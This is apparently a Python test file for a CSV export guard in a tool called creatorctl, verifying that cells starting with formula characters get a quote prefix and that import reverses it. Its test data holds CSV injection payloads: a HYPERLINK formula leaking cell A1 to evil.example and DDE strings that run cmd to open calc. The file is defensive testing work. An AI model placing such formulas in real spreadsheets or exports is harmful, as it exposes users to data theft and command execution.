"""Issue 10 §4: CSV export neutralises spreadsheet formulas (OWASP CSV injection), and import of
creatorctl's own CSV takes the guard off again, so export → import is still exact.

OWASP, "CSV Injection": prefix cells starting with = + - @ tab or CR with a single quote
(https://owasp.org/www-community/attacks/CSV_Injection).
"""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from creatorctl.importers.exports import neutralise, unneutralise
from creatorctl.store import Store
from tests.import_helpers import WORKS_HEADER, cli, rows, works_row, write_csv

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already quoted by its author",
    "''-two quotes",
    "'just a quote",
    "plain 评论",
]
COMMENTS_HEADER = ["评论ID", "作品ID", "用户ID", "用户昵称", "评论内容", "评论时间", "点赞数"]


def _work(tmp_path: Path) -> None:
    works = [WORKS_HEADER, works_row("=cmd|' /C calc'!A0", item="900001")]
    code, _out, err = cli("import", str(write_csv(tmp_path / "w.csv", works)))
    assert code == 0, err


def _load(tmp_path: Path) -> None:
    _work(tmp_path)
    data = [COMMENTS_HEADER] + [
        [f"c{i}", "900001", f"u{i}", text[:20], text, f"2026-11-20 10:{i:02d}", i]
        for i, text in enumerate(FORMULAS)
    ]
    code, _out, err = cli("import", str(write_csv(tmp_path / "c.csv", data)), "--kind", "comments")
    assert code == 0, err
    earnings = [["日期", "收入来源", "金额", "流水号", "备注"],
                ["2026-11-01", "商单", "-12.5", "r1", "=1+1"],
                ["2026-11-02", "商单", "300", "r2", "-refund"]]  # fmt: skip
    code, _out, err = cli("import", str(write_csv(tmp_path / "e.csv", earnings)))
    assert code == 0, err


def _cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def test_formulas_get_a_quote_and_numbers_stay_numbers(import_db: str, tmp_path: Path) -> None:
    _load(tmp_path)
    out = tmp_path / "comments.csv"
    assert cli("export", "comments", "-o", str(out))[0] == 0
    contents = [r[4] for r in _cells(out)[1:]]
    assert "'" + FORMULAS[0] in contents and "'" + FORMULAS[1] in contents
    assert "'-2+3" in contents and "'" + FORMULAS[3] in contents
    assert "''=already quoted by its author" in contents and "'''-two quotes" in contents
    assert "'just a quote" in contents and "plain 评论" in contents  # left alone
    assert not any(c[:1] in "=+-@" for c in contents)
    earn = tmp_path / "earnings.csv"
    assert cli("export", "earnings", "-o", str(earn))[0] == 0
    body = _cells(earn)[1:]
    assert [r[2] for r in body] == ["-12.5", "300.0"] or [r[2] for r in body] == ["-12.5", "300"]
    assert [r[4] for r in body] == ["'=1+1", "'-refund"]


def test_raw_writes_cells_as_stored(import_db: str, tmp_path: Path) -> None:
    _load(tmp_path)
    out = tmp_path / "raw.csv"
    assert cli("export", "comments", "--raw", "-o", str(out))[0] == 0
    assert {r[4] for r in _cells(out)[1:]} == set(FORMULAS)


def test_export_then_import_is_exact(import_db: str, import_store: Store, tmp_path: Path) -> None:
    _load(tmp_path)
    out, works = tmp_path / "comments.csv", tmp_path / "works.csv"
    assert cli("export", "comments", "-o", str(out))[0] == 0
    assert cli("export", "works", "-o", str(works))[0] == 0
    assert "'=cmd" in works.read_text(encoding="utf-8-sig")
    with import_store.write() as conn:
        conn.exec_driver_sql("DELETE FROM comment")
        conn.exec_driver_sql("UPDATE work SET title = 'changed'")
    for path in (works, out):
        code, _o, err = cli("import", str(path))
        assert code == 0, err
    assert sorted(r[0] for r in rows(import_store, "SELECT content FROM comment")) == sorted(
        FORMULAS
    )
    assert rows(import_store, "SELECT title FROM work") == [("=cmd|' /C calc'!A0",)]


def test_a_file_from_elsewhere_keeps_its_quotes(
    import_db: str, import_store: Store, tmp_path: Path
) -> None:
    """Only creatorctl's own export layout is un-quoted: another tool's "'=x" stays as written."""
    _work(tmp_path)
    data = [
        [*COMMENTS_HEADER, "置顶", "备注"],
        ["c1", "900001", "u1", "n", "'=x", "2026-11-20 10:00", 1, "否", ""],
    ]
    code, _o, err = cli(
        "import", str(write_csv(tmp_path / "other.csv", data)), "--kind", "comments"
    )
    assert code == 0, err
    assert rows(import_store, "SELECT content FROM comment") == [("'=x",)]


@pytest.mark.parametrize(
    "value",
    ["=1", "+1", "-1", "@x", "\tx", "\rx", "'=1", "''+1", "'", "''", "", "x", "'x", "长"],
)
def test_neutralise_round_trips(value: str) -> None:
    assert unneutralise(neutralise(value)) == value
    assert str(neutralise(value))[:1] not in ("=", "+", "-", "@", "\t", "\r")


def test_numbers_are_never_quoted() -> None:
    assert neutralise(-5) == -5 and neutralise(-0.5) == -0.5 and neutralise(None) is None
